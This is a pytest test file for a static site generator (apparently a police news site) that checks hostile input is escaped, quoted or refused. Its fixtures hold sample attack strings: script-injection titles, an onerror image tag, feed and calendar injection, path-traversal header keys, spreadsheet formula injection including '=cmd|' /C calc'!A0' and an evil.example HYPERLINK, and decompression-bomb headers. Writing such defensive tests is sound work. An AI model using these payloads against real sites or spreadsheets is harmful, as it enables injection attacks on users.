def test_preview_build_drops_html_outside_the_allowlist_with_a_warning(html_builds, name):
    preview = html_builds["preview"]
    assert preview.returncode == 0, preview.stderr
    path = f"stories/html-{name}.md"
    assert any(w.startswith(f"{path}:{html_line(name)}: warning: ") for w in warning_lines(preview.stderr)), preview.stderr
    page = html_builds["preview_out"] / "stories" / f"html-{name}" / "index.html"
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    body = soup.select_one(".e-content")
    assert body is not None and "A first paragraph." in body.get_text()
    assert unsafe_in(body) == []
    assert "alert(1)" not in str(body)


# --- hostile input the site publishes safely: one build, one test per guarantee ----------------------

HOSTILE_TITLE = '</script><script>alert("title")</script> & <b>bold</b>'
HOSTILE_ID = ']]></id><script>alert("id")</script><id>a b,c&d'
FORMULAS = [
    ("=1+1", True), ('=HYPERLINK("https://evil.example","Click")', True), ("+1+1", True), ("-1+1", True),
    ("@SUM(A1:A2)", True), ("-", True), ("\t=1+1", True), ("-5", False), ("-1.5", False), ("+3", False),
    ("1e3", False), ("-2e-3", False), ("plain", False), ("", False),
]


def safe_files() -> dict[str, str | bytes]:
    table = io.StringIO()
    csv.writer(table, lineterminator="\n").writerows(
        [["=cmd|' /C calc'!A0", "value"]] + [[f"row{i}", cell] for i, (cell, _quoted) in enumerate(FORMULAS)])
    return {
        # a slug from a file name: letters only, whatever the name holds
        "stories/Über Straße & Co!.md": story(title="A name with odd letters"),
        # text that tries to close a script block, a feed element or an iCalendar line
        "stories/hostile-title.md": story(title=HOSTILE_TITLE, header=f"Id: {HOSTILE_ID}"),
        "alerts/hostile-id.md": f"Title: {HOSTILE_TITLE}\nId: {HOSTILE_ID} alert\nDate: 2026-05-01 08:00\n"
                                "Expires: 2026-12-31 18:00\nSeverity: warning\n\nUse the detour.\n",
        "events/hostile-event.md": f"Title: {HOSTILE_TITLE}\nId: {HOSTILE_ID} event\nDate: 2026-05-01\n"
                                   "Starts: 2026-07-04 10:00\nLocation: Park; DTSTART:19700101T000000\n\nCome along.\n",
        "qa/hostile-question.md": "Title: A question\nDate: 2026-03-10\nQuestion: <script>alert('question')</script>"
                                  "<img src=x onerror=alert(1)>\nAsked: 2026-03-01\nAsker: <b>Resident</b>\n"
                                  "Authors: Records\n\nAn answer.\n",
        # Pelican's own keys that name output paths are not Open Beat's: ignored, nothing written there
        "stories/save-as.md": story(header="Save_as: ../../../somewhere/pwned.html\nUrl: ../../../somewhere/\n"
                                           "Output: ../../somewhere/out.html"),
        # 911 is never a link, however it is written
        "stories/emergency.md": story(body="In an emergency call 911, or [call 911](tel:911)."),
        "stories/emergency-country-code.md": story(body='Call <a href="tel:+1-911">911</a>.'),
        # photos with comments, text chunks, EXIF, GPS, ICC and XMP, in posts, on cards and in files/
        "stories/jpeg-photo.md": story(header="Image: images/meta.jpg\nImage-Alt: A red square"),
        "stories/png-photo.md": story(header="Image: images/meta.png\nImage-Alt: A blue square"),
        "stories/gif-photo.md": story(header="Image: images/meta.gif\nImage-Alt: A yellow square"),
        "stories/webp-photo.md": story(body="![A green square](/images/meta.webp)"),
        "images/meta.jpg": jpeg_with_metadata(),
        "images/meta.png": png_with_text(),
        "images/meta.gif": gif_with_comments(frames=3),
        "images/meta.webp": webp_with_metadata(),
        "files/meta.jpg": jpeg_with_metadata(),
        "files/meta.png": png_with_text(),
        "files/meta.gif": gif_with_comments(),
        "files/animated.gif": gif_with_comments(frames=3),
        "files/meta.webp": webp_with_metadata(),
        # two images with one name and two extensions
        "stories/red.md": story(header="Image: images/same.jpg\nImage-Alt: A red square"),
        "stories/blue.md": story(header="Image: images/same.png\nImage-Alt: A blue square"),
        "images/same.jpg": image_bytes((900, 600), "JPEG", (230, 20, 20)),
        "images/same.png": image_bytes((900, 600), "PNG", (20, 20, 230)),
        # a data set whose cells are formulas, with a byte-order mark
        "data/formulas.md": "Title: Formulas\nDate: 2026-01-01\nSource: Records\n\nThe numbers.\n",
        "data/formulas.csv": ("\ufeff" + table.getvalue()).encode("utf-8"),
        "files/table.csv": 'link,number\n"=HYPERLINK(""https://evil.example"",""Click"")",-5\n',
    }


@pytest.fixture(scope="module")
def safe_site(tmp_path_factory, previous_out) -> dict:
    ws = make_workspace(tmp_path_factory.mktemp("safe"), previous_out, safe_files())
    around_before = snapshot(ws.root, skip=(ws.out, ws.cache))
    result = pelican(ws.content, ws.out)
    return {"ws": ws, "result": result, "around_kept": snapshot(ws.root, skip=(ws.out, ws.cache)) == around_before,
            "lint": lint_problems(ws.content)}


def published(safe_site) -> Path:
    result = safe_site["result"]
    assert result.returncode == 0, result.stdout + result.stderr
    return safe_site["ws"].out


@pytest.mark.build
def test_safe_build_writes_nothing_outside_out_and_nothing_of_the_sibling(safe_site):
    out = published(safe_site)
    assert safe_site["around_kept"]
    assert staging_left(safe_site["ws"]) == []
    assert not any(MARK.encode() in p.read_bytes() for p in out.rglob("*") if p.is_file())
    assert [str(p) for p in safe_site["lint"] if p.level == "error"] == []


@pytest.mark.build
def test_every_output_path_is_made_of_safe_names(safe_site):
    out = published(safe_site)
    odd = [str(p.relative_to(out)) for p in out.rglob("*")
           if not all(part.isascii() and " " not in part and part not in ("..", ".") for part in p.relative_to(out).parts)]
    assert odd == []
    assert (out / "stories/uber-strasse-co/index.html").is_file()


@pytest.mark.build
def test_pelican_path_keys_in_a_header_are_ignored_with_a_warning(safe_site):
    out = published(safe_site)
    assert any(w.startswith("stories/save-as.md:3: warning: Save_As is not a key")
               for w in warning_lines(safe_site["result"].stderr)), safe_site["result"].stderr
    assert not (safe_site["ws"].somewhere / "out.html").exists()
    assert (out / "stories/save-as/index.html").is_file()


@pytest.mark.build
def test_a_title_cannot_break_the_json_ld_block_or_add_a_script(safe_site):
    out = published(safe_site)
    normal = BeautifulSoup((out / "stories/red/index.html").read_text(encoding="utf-8"), "html.parser")
    soup = BeautifulSoup((out / "stories/hostile-title/index.html").read_text(encoding="utf-8"), "html.parser")
    kinds = sorted((s.get("type", ""), s.get("src", "")) for s in soup.find_all("script"))
    assert kinds == sorted((s.get("type", ""), s.get("src", "")) for s in normal.find_all("script"))
    blocks = [json.loads(s.string) for s in soup.find_all("script", type="application/ld+json")]
    assert [b.get("headline") for b in blocks if "headline" in b] == [HOSTILE_TITLE]
    assert soup.find("h1").get_text(strip=True) == HOSTILE_TITLE.replace("  ", " ")
    assert soup.find("b", string="bold") is None


@pytest.mark.build
def test_an_id_cannot_break_a_feed(safe_site):
    out = published(safe_site)
    feeds = sorted((out / "feeds").glob("*.xml"))
    assert feeds
    for feed in feeds:
        root = etree.fromstring(feed.read_bytes())  # strict XML: raises on any broken markup
        assert not [e for e in root.iter() if isinstance(e.tag, str) and etree.QName(e).localname == "script"]
    atom = etree.fromstring((out / "feeds/all.atom.xml").read_bytes())
    ids = [e.text for e in atom.iter("{http://www.w3.org/2005/Atom}id")]
    assert any(i and i.startswith("tag:") and "script" in i and "<" not in i and " " not in i for i in ids)


@pytest.mark.build
def test_an_id_cannot_break_the_cap_message_or_the_calendar(safe_site):
    out = published(safe_site)
    cap = etree.fromstring((out / "alerts/hostile-id/cap.xml").read_bytes())
    identifier = cap.find("{urn:oasis:names:tc:emergency:cap:1.2}identifier").text
    assert not any(c in identifier for c in " ,<&")
    import icalendar

    calendar = icalendar.Calendar.from_ical((out / "events/hostile-event.ics").read_bytes())
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 1
    assert str(events[0]["SUMMARY"]) == HOSTILE_TITLE
    assert str(events[0]["LOCATION"]) == "Park; DTSTART:19700101T000000"
    assert events[0]["DTSTART"].dt.year == 2026


@pytest.mark.build
def test_resident_text_is_shown_as_text(safe_site):
    out = published(safe_site)
    soup = BeautifulSoup((out / "qa/hostile-question/index.html").read_text(encoding="utf-8"), "html.parser")
    main = soup.find("main")
    assert "<script>alert('question')</script>" in main.get_text()
    assert main.find("script", string=lambda s: s and "question" in s) is None
    assert main.find("img", src="x") is None and main.find("b", string="Resident") is None


def tel_links_to_911(page: Path) -> list[str]:
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    return [str(a) for a in soup.find_all("a", href=True) if a["href"].lower().startswith("tel:")
            and "".join(ch for ch in a["href"] if ch.isdigit()).removeprefix("1") == "911"]


@pytest.mark.build
def test_911_is_never_a_link(safe_site):
    out = published(safe_site)
    assert tel_links_to_911(out / "stories/emergency/index.html") == []
    soup = BeautifulSoup((out / "stories/emergency/index.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.select_one(".e-content").get_text().count("911") == 2


@pytest.mark.build
def test_911_with_a_country_code_is_never_a_link(safe_site):
    out = published(safe_site)
    assert tel_links_to_911(out / "stories/emergency-country-code/index.html") == []


@pytest.mark.build
def test_formula_cells_are_quoted_in_a_csv_of_files_too(safe_site):
    out = published(safe_site)
    rows = list(csv.reader(io.StringIO((out / "files/table.csv").read_text(encoding="utf-8"))))
    assert rows[1] == ["'=HYPERLINK(\"https://evil.example\",\"Click\")", "-5"]


FORBIDDEN_INFO = {"comment", "exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "photoshop", "adobe", "iptc",
                  "Comment", "Author"}


@pytest.mark.build
def test_no_published_image_carries_metadata_or_comments(safe_site):
    out = published(safe_site)
    images = [p for p in out.rglob("*") if p.suffix.lower() in (".jpg", ".jpeg", ".png", ".gif", ".webp")]
    assert any(p.parts[-2] == "cards" for p in images) and any(p.parts[-2] == "files" for p in images)
    assert {"meta.jpg", "meta.png", "meta.gif", "meta.webp", "animated.gif"} <= {p.name for p in images}
    for path in images:
        data = path.read_bytes()
        assert META.encode() not in data, path
        with Image.open(io.BytesIO(data)) as image:
            for frame in range(getattr(image, "n_frames", 1)):
                image.seek(frame)
                assert not set(image.info) & FORBIDDEN_INFO, (path, frame, sorted(image.info))
                assert not any(key[:1].isupper() for key in image.info), (path, sorted(image.info))  # PNG text keys
            assert len(image.getexif()) == 0, path
            assert getattr(image, "text", {}) == {}, path


@pytest.mark.build
def test_cards_are_drawn_from_the_photo_without_its_metadata(safe_site):
    out = published(safe_site)
    for slug in ("jpeg-photo", "png-photo", "gif-photo"):
        soup = BeautifulSoup((out / f"stories/{slug}/index.html").read_text(encoding="utf-8"), "html.parser")
        card = soup.find("meta", property="og:image")["content"].removeprefix("https://police.example.gov/")
        data = (out / card).read_bytes()
        assert META.encode() not in data
        with Image.open(io.BytesIO(data)) as image:
            assert image.size == (1200, 630) and "comment" not in image.info and "exif" not in image.info


@pytest.mark.build
def test_two_images_with_one_name_never_share_copies(safe_site):
    out = published(safe_site)
    shown = {}
    for slug in ("red", "blue"):
        soup = BeautifulSoup((out / f"stories/{slug}/index.html").read_text(encoding="utf-8"), "html.parser")
        picture = soup.select_one("main picture")
        urls = [picture.img["src"]] + [u.split()[0] for s in picture.find_all("source") for u in s["srcset"].split(",")]
        shown[slug] = {u.removeprefix("https://police.example.gov/") for u in urls}
        for url in shown[slug]:
            red, _green, blue = image_colour((out / url).read_bytes())
            assert (red > blue) == (slug == "red"), (slug, url)
        card = soup.find("meta", property="og:image")["content"].removeprefix("https://police.example.gov/")
        red, _green, blue = image_colour((out / card).read_bytes())
        assert (red > blue) == (slug == "red"), (slug, card)
    assert not shown["red"] & shown["blue"]


@pytest.mark.build
def test_formula_cells_are_quoted_in_the_csv_download_and_numbers_are_not(safe_site):
    out = published(safe_site)
    text = (out / "data/formulas/formulas.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "'=cmd|' /C calc'!A0"  # the byte-order mark does not hide a formula
    cells = {row[0]: row[1] for row in rows[1:]}
    for index, (cell, quoted) in enumerate(FORMULAS):
        assert cells[f"row{index}"] == (f"'{cell}" if quoted else cell), cell


# --- a post too slow to render: the reader's time limit, in lint and the build ---------------------------

SLOW_BODY = "A heading\n=========\n" * 8000  # Python-Markdown takes seconds over each setext heading list


@pytest.mark.build
def test_a_post_too_slow_to_render_is_refused_by_lint_and_the_build(tmp_path, previous_out, monkeypatch):
    ws = make_workspace(tmp_path, previous_out, {"stories/slow.md": story(body=SLOW_BODY)})
    out_before, around_before = tree(ws.out), snapshot(ws.root, skip=(ws.out, ws.cache))
    monkeypatch.setattr("openbeat.reading.READ_SECONDS", 1)
    assert has(lint_problems(ws.content), "stories/slow.md", 4, "takes too long to read (over 1 seconds)")
    # The real command line, with the limit at one second so that the test stays quick.
    script = ("import sys, openbeat.reading; openbeat.reading.READ_SECONDS = 1; from pelican import main; "
              f"sys.argv = ['pelican', {str(ws.content)!r}, '-s', {PUBLISHCONF!r}, '-o', {str(ws.out)!r}, '-e', "
              f"{'CACHE_PATH=' + json.dumps(str(ws.cache))!r}]; main()")
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300,
                            env={**os.environ, "SOURCE_DATE_EPOCH": str(EPOCH)})
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert has(error_lines(result.stderr), "stories/slow.md", 4, "takes too long to read (over 1 seconds)")
    assert tree(ws.out) == out_before
    assert snapshot(ws.root, skip=(ws.out, ws.cache)) == around_before
    assert staging_left(ws) == []


def test_a_decompression_bomb_is_refused_from_its_header_in_well_under_a_second(tmp_path):
    for name, data, fragment in (("bomb.png", png_header_only(100_000, 100_000), "far over the limit"),
                                 ("bomb.gif", gif_header_only(65_535, 65_535), "far over the limit"),
                                 ("wide.png", png_header_only(200_000, 300), "over the limit of 50,000,000")):
        path = tmp_path / name
        path.write_bytes(data)  # its pixel data is garbage: decoding it would fail with another message
        start = time.monotonic()
        with pytest.raises(ImageProblem, match=fragment):
            inspect(str(path), 50_000_000)
        assert time.monotonic() - start < 0.5, name


# --- lint on the command line prints what the rule set finds -------------------------------------------

CLI_CASES = ["containment/image-header-dotdot", "containment/image-symlinked-out", "files/post-is-a-fifo",
             "header/line-separator-U+2028", "text/thousands-of-nested-lists-on-one-line", "data/ssn-in-a-cell",
             "personal/ssn-with-zero-width-joiners"]


@pytest.mark.parametrize("name", CLI_CASES, ids=CLI_CASES)
def test_lint_command_prints_the_same_errors(tmp_path, name):
    ws = make_workspace(tmp_path, None)
    ATTACKS[name](ws).apply(ws)
    result = lint_cli(ws.content)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert error_lines(result.stdout) == {str(p) for p in lint_problems(ws.content) if p.level == "error"}


# --- the output folder (#11, #18) --------------------------------------------------------------------------


@pytest.mark.build
def test_a_symlinked_out_updates_its_target_and_the_link_stays(tmp_path, previous_out):
    ws = make_workspace(tmp_path, None, {"stories/new.md": story(title="New")})
    real = ws.site / "real-out"
    shutil.copytree(previous_out, real)
    (real / "stale.html").write_text("stale")
    ws.out.symlink_to(real)
    around_before = snapshot(ws.root, skip=(real, ws.cache, ws.out))
    result = pelican(ws.content, ws.out)
    assert result.returncode == 0, result.stderr
    assert ws.out.is_symlink() and os.readlink(ws.out) == str(real)
    assert (real / "stories/new/index.html").is_file() and not (real / "stale.html").exists()
    assert snapshot(ws.root, skip=(real, ws.cache, ws.out)) == around_before
    assert staging_left(ws) == []


@pytest.mark.build
def test_an_out_that_is_a_file_stops_the_build_with_a_clear_message(tmp_path):
    ws = make_workspace(tmp_path, None)
    ws.out.write_text("not a folder")
    around_before = snapshot(ws.root, skip=(ws.cache,))
    result = pelican(ws.content, ws.out)
    assert result.returncode == 1
    assert f"{ws.out} is a file, not a folder: give -o a folder name, such as output" in result.stderr.splitlines()
    assert "Traceback" not in result.stdout + result.stderr and "OutputError" not in result.stdout + result.stderr
    assert snapshot(ws.root, skip=(ws.cache,)) == around_before


def dead_pid() -> int:
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


@pytest.mark.build
def test_staging_folders_of_killed_builds_are_removed_and_running_ones_kept(tmp_path, previous_out):
    ws = make_workspace(tmp_path, previous_out)
    dead = dead_pid()
    for name in (f".out.staging-{dead}", f".out.staging-{dead}.old", f".out.staging-{os.getpid()}"):
        write_files(ws.site / name, {"index.html": "half-written"})
    result = pelican(ws.content, ws.out)
    assert result.returncode == 0, result.stderr
    assert staging_left(ws) == [f".out.staging-{os.getpid()}"]  # this test's process is alive: not touched


def project_tree(root: Path) -> dict[str, Path]:
    """A small project in root/proj (its content, docs, theme and seal), content elsewhere, a home folder."""
    write_files(root / "proj/content", basic_site())
    write_files(root / "proj/docs", {"readme.md": "Docs.\n"})
    shutil.copytree(ROOT / "theme", root / "proj/theme")
    shutil.copytree(ROOT / "branding", root / "proj/branding")
    write_files(root / "elsewhere/content", basic_site())
    write_files(root / "home", {"notes.txt": "Mine.\n"})
    (root / "link-into-content").symlink_to(root / "proj/content/images")
    return {"proj": root / "proj", "content": root / "proj/content", "elsewhere": root / "elsewhere/content",
            "home": root / "home", "theme": root / "proj/theme"}


# name -> (content, OUT, cache, what the message says), as keys of project_tree (or a path under root)
REFUSED_OUTPUTS = {
    "the-project-root": ("elsewhere", "proj", "cache", "holds the project folder"),
    "the-content-folder": ("content", "content", "cache", "holds the content folder"),
    "inside-the-content-folder": ("content", "proj/content/output", "cache", "is inside the content folder"),
    "a-folder-holding-the-content": ("content", ".", "cache", "holds the content folder"),
    "a-symlink-into-the-content": ("content", "link-into-content", "cache", "is inside the content folder"),
    "the-theme-folder": ("elsewhere", "theme", "cache", "holds the theme folder"),
    "a-home-folder": ("elsewhere", "home", "cache", "holds the home folder"),
    "a-file": ("content", "proj/docs/readme.md", "cache", "is a file, not a folder"),
    "a-cache-inside-the-content": ("content", "out", "proj/content/.cache", "CACHE_PATH"),
    "a-cache-inside-out": ("elsewhere", "out", "out/.cache", "cache folder"),
}


@pytest.mark.build
@pytest.mark.parametrize("name", REFUSED_OUTPUTS, ids=list(REFUSED_OUTPUTS))
def test_an_output_folder_that_would_delete_what_is_not_the_site_is_refused(tmp_path, name):
    places = project_tree(tmp_path)
    content_key, out_key, cache_key, fragment = REFUSED_OUTPUTS[name]
    content = places[content_key]
    output = places.get(out_key, tmp_path / out_key)
    cache = tmp_path / cache_key
    before = snapshot(tmp_path)
    result = pelican(content, output, env={"HOME": str(places["home"])}, PROJECT_PATH=str(places["proj"]),
                     THEME=str(places["theme"]), CACHE_PATH=str(cache))
    log = " ".join((result.stdout + result.stderr).split())
    assert result.returncode == 1, log
    assert fragment in log and "Traceback" not in log
    assert snapshot(tmp_path) == before


# --- settings and the environment are input too (#18) ------------------------------------------------------


@pytest.mark.build
@pytest.mark.parametrize("epoch", ["yesterday", "1.5", "0x10", "99999999999999999999"])
def test_an_invalid_source_date_epoch_is_a_clear_message(tmp_path, previous_out, epoch):
    ws = make_workspace(tmp_path, previous_out)
    out_before = tree(ws.out)
    linted = lint_cli(ws.content, SOURCE_DATE_EPOCH=epoch)
    built = pelican(ws.content, ws.out, env={"SOURCE_DATE_EPOCH": epoch})
    for result, code in ((linted, 2), (built, 1)):
        log = " ".join((result.stdout + result.stderr).split())
        assert result.returncode == code, log
        assert f"SOURCE_DATE_EPOCH={epoch!r} is not a time in whole seconds since 1970" in log
        assert "Traceback" not in log
    assert tree(ws.out) == out_before


@pytest.mark.build
def test_a_logo_over_the_pixel_limit_is_a_clear_message(tmp_path, previous_out):
    ws = make_workspace(tmp_path, previous_out)
    logo = ws.somewhere / "logo.png"
    logo.write_bytes(png_header_only(10_000, 8_000))
    out_before = tree(ws.out)
    result = pelican(ws.content, ws.out, LOGO=str(logo))
    assert result.returncode == 1
    assert f"LOGO names {logo}, which is 10000x8000 pixels, over the limit of 50,000,000" in result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert tree(ws.out) == out_before


# --- no global side effects (#11) ----------------------------------------------------------------------------

OWN_CODE = [ROOT / "openbeat", ROOT / "plugins", ROOT / "scripts"]


def test_no_code_changes_pillows_own_pixel_limit():
    found = []
    for folder in OWN_CODE:
        for path in folder.rglob("*.py"):
            tree_ = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree_):
                targets = node.targets if isinstance(node, ast.Assign) else (
                    [node.target] if isinstance(node, (ast.AugAssign, ast.AnnAssign)) else [])
                for target in targets:
                    if isinstance(target, ast.Attribute) and target.attr == "MAX_IMAGE_PIXELS":
                        found.append(f"{path}:{node.lineno}")
                if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "setattr" and any(
                        isinstance(a, ast.Constant) and a.value == "MAX_IMAGE_PIXELS" for a in node.args):
                    found.append(f"{path}:{node.lineno}")
    assert found == []


STATE_SCRIPT = r"""
import csv, importlib, json, logging, pkgutil, signal, socket, sys, warnings
sys.path[:0] = [ROOT + "/plugins", ROOT + "/scripts", ROOT]
# Third-party packages first: what they do when imported is theirs.
import bs4, feedgen.feed, icalendar, jinja2, lxml.etree, lxml.html, markdown, nh3, PIL.Image, pelican, pelican.generators
import pelican.readers, pelican.settings, pelican.contents, pelican.plugins.signals, pelican.utils

def state():
    # A logger made with Pelican's logger class gets Pelican's LimitFilter: making a logger is not configuring it.
    loggers = {name: [type(h).__name__ for h in l.handlers] + [l.level, l.propagate]
               + [type(f).__name__ for f in l.filters if type(f).__name__ != "LimitFilter"]
               for name, l in logging.Logger.manager.loggerDict.items() if isinstance(l, logging.Logger)}
    root = logging.getLogger()
    return {"pixels": PIL.Image.MAX_IMAGE_PIXELS, "root": [type(h).__name__ for h in root.handlers] + [root.level],
            "loggers": loggers, "disable": logging.root.manager.disable, "warnings": len(warnings.filters),
            "signals": [str(signal.getsignal(s)) for s in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM)],
            "recursion": sys.getrecursionlimit(), "csv": csv.field_size_limit(), "timeout": socket.getdefaulttimeout()}

before = state()
import openbeat
names = [m.name for m in pkgutil.walk_packages(openbeat.__path__, "openbeat.")]
names += ["ob_setup", "ob_checks", "ob_atomic", "ob_model", "ob_i18n", "ob_write", "ob_search", "lint", "new"]
for name in names:
    importlib.import_module(name)
print(json.dumps({"before": before, "after": state(), "imported": len(names)}))
"""


def test_importing_the_code_changes_no_global_state():
    result = subprocess.run([sys.executable, "-c", f"ROOT = {str(ROOT)!r}\n" + STATE_SCRIPT], capture_output=True,
                            text=True, timeout=120, cwd=str(ROOT))
    assert result.returncode == 0, result.stderr
    found = json.loads(result.stdout.strip().splitlines()[-1])
    assert found["imported"] > 40
    before, after = found["before"], found["after"]
    made = {name: after["loggers"].pop(name) for name in list(after["loggers"]) if name not in before["loggers"]}
    assert all(state == [0, True] for state in made.values()), made  # no handler, no level, passes records on
    assert after == before


def test_lint_and_the_build_reader_read_a_continued_list_value_alike(tmp_path):
    """A value continued on the next line: both read `Officers` as a list, so neither sees one odd slug."""
    ws = make_workspace(tmp_path, None, {"stories/two.md": story(header="Officers: jane-doe\n    ../x")})
    settings = site_settings(PELICANCONF, PATH=str(ws.content))
    from_reader = PostReader(settings).read(str(ws.content / "stories/two.md"))[1]["header"]
    assert from_reader.get("officers") == "jane-doe,../x"
    assert has(lint_problems(ws.content), "stories/two.md", 3, 'Officers names "../x"')
